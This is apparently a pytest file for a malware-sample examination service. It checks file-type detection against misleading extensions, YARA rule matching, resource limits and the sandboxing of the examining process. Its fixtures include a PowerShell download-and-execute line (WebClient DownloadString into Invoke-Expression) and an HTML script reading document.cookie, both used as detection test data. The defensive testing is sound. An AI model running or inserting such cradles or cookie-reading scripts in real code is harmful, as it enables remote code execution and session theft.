"""The examining process: what it tells of a content, and that a hostile one hurts nobody but it."""

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from pip._vendor import distlib

from huntline.samples.examining.kinds import KindReader
from huntline.samples.examining.running import ExaminationBroke, examine
from huntline.samples.rulebook import current_rules

PROGRAM = (Path(distlib.__file__).parent / "t64.exe").read_bytes()  # a real one for Windows, which pip brings
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
SCRIPT = b"$client = New-Object System.Net.WebClient\nInvoke-Expression $client.DownloadString('http://x')\n" * 3
PLAIN = b"Dear customer,\nplease find the numbers of last month below.\n" * 5


@pytest.fixture(scope="module")
def reader():
    return KindReader()


class TestKind:
    @pytest.mark.requirement("R56")
    @pytest.mark.parametrize(
        ("content", "name", "label", "lies"),
        [
            (PROGRAM, "setup.exe", "pebin", False),
            (PROGRAM, "screen.scr", "pebin", False),
            (PROGRAM, "holiday.jpg", "pebin", True),
            (PROGRAM, "invoice.pdf", "pebin", True),
            (PROGRAM, "report.docx", "pebin", True),
            (PROGRAM, "file.xyzzy", "pebin", True),
            (PROGRAM, "noextension", "pebin", None),
            (HTML, "page.html", "html", False),
            (HTML, "photo.png", "html", True),
            (HTML, "letter.pdf", "html", True),
            (PDF, "letter.pdf", "pdf", False),
            (PDF, "letter.PDF", "pdf", False),
            (PDF, "letter.exe", "pdf", True),
            (SCRIPT, "update.ps1", "powershell", False),
            (SCRIPT, "notes.txt", "powershell", False),
            (SCRIPT, "cat.gif", "powershell", True),
            (bytes(100), "zeros.jpg", "unknown", None),
        ],
    )
    def test_is_told_by_the_content(self, reader, content, name, label, lies):
        kind = reader.kind_of(content, name)
        assert (kind.label, kind.name_lies) == (label, lies)

    def test_of_a_single_byte(self, reader):
        assert reader.kind_of(b"a", "a.txt").name_lies is False


class TestExamine:
    def test_tells_what_it_found(self, settings, tmp_path):
        rules = tmp_path / "rules"
        rules.mkdir()
        (rules / "a.yar").write_text(
            'rule cookie : web xss { meta: author = "Kim" score = 70 sure = true strings: $a = "document.cookie" condition: $a }\n'
            'rule named { condition: filename == "p\'age.html" and extension == ".html" }\n'
            "rule never { condition: false }\n"
        )
        settings.HUNTLINE_YARA_RULES = str(rules)
        book = current_rules()
        found = examine("p'age.html", len(HTML), [HTML[:10], HTML[10:]], rules=book.compiled, ruleset=book.sha256)
        assert (found.kind.label, found.kind.mime, found.kind.name_lies) == ("html", "text/html", False)
        assert found.ruleset == book.sha256
        cookie, named = found.matches
        assert (cookie.rule, cookie.namespace, cookie.tags) == ("cookie", "a.yar", ["web", "xss"])
        assert cookie.meta == [("author", "Kim"), ("score", "70"), ("sure", "True")]
        assert named.rule == "named"

    def test_without_rules_tells_the_kind(self):
        found = examine("a.pdf", len(PDF), [PDF], rules=None, ruleset="")
        assert (found.kind.label, found.matches, found.ruleset) == ("pdf", [], "")

    def test_keeps_so_many_matches_and_says_that_there_are_more(self, settings, tmp_path):
        (tmp_path / "rules").mkdir()
        text = "\n".join(f"rule r{number} {{ condition: true }}" for number in range(250))
        (tmp_path / "rules" / "many.yar").write_text(text)
        settings.HUNTLINE_YARA_RULES = str(tmp_path / "rules")
        book = current_rules()
        found = examine("a", 1, [b"a"], rules=book.compiled, ruleset=book.sha256)
        assert (len(found.matches), found.cut) == (200, True)

    @pytest.mark.requirement("R56")
    def test_has_a_time(self, settings):
        settings.HUNTLINE_EXAMINATION_SECONDS = 1

        def slow():
            import time

            for _ in range(40):
                time.sleep(0.05)
                yield b"a"

        with pytest.raises(ExaminationBroke) as broke:
            examine("a", 41, slow(), rules=None, ruleset="")
        assert broke.value.code == "examination_time"

    @pytest.mark.requirement("R56")
    def test_has_a_memory(self, settings):
        settings.HUNTLINE_EXAMINATION_MEMORY_MIB = 60
        with pytest.raises(ExaminationBroke) as broke:
            examine("a", 1, [b"a"], rules=None, ruleset="")
        assert broke.value.code in {"examination_memory", "examination_crashed"}

    def test_one_that_speaks_nonsense_is_not_believed(self, monkeypatch):
        from huntline.samples.examining import running

        monkeypatch.setattr(running, "_run", lambda *_: b'{"kind": {"label": "' + b"x" * 500 + b'"}}')
        with pytest.raises(ExaminationBroke):
            examine("a", 1, [b"a"], rules=None, ruleset="")

    def test_one_that_ends_in_the_middle_is_survived(self, settings, tmp_path):
        (tmp_path / "no.yarc").write_bytes(b"no rules at all")
        with pytest.raises(ExaminationBroke) as broke:
            examine("a", 30_000_000, [bytes(10_000_000)] * 3, rules=tmp_path / "no.yarc", ruleset="0" * 64)
        assert broke.value.code == "examination_crashed"

    @pytest.mark.requirement("R56")
    def test_has_no_secrets_writes_nothing_and_cannot_be_grown(self):
        """What a sample that took the process over would find."""
        probe = (
            "import json, os, resource, sys; from huntline.samples.examining import child; child._bound(5, 2**31);\n"
            "def written():\n"
            "    try:\n"
            "        with open('/tmp/x' + str(os.getpid()), 'wb') as file: file.write(b'x')\n"
            "    except OSError: return False\n"
            "    return True\n"
            "import signal; signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
            "print(json.dumps([written(), sorted(os.environ), resource.getrlimit(resource.RLIMIT_CORE)]))"
        )
        said = subprocess.run(
            [sys.executable, "-I", "-c", probe], env={"LANG": "C.UTF-8"}, capture_output=True, text=True, check=True
        )
        written, environment, core = json.loads(said.stdout)
        assert written is False
        assert set(environment) <= {"LANG", "LC_CTYPE"}
        assert core == [0, 0]

    def test_the_process_knows_no_django(self):
        probe = "import sys, huntline.samples.examining.child; print('django' in sys.modules)"
        said = subprocess.run(
            [sys.executable, "-I", "-c", probe], capture_output=True, text=True, check=True, env={**os.environ}
        )
        assert said.stdout.strip() == "False"
        assert django_settings.configured
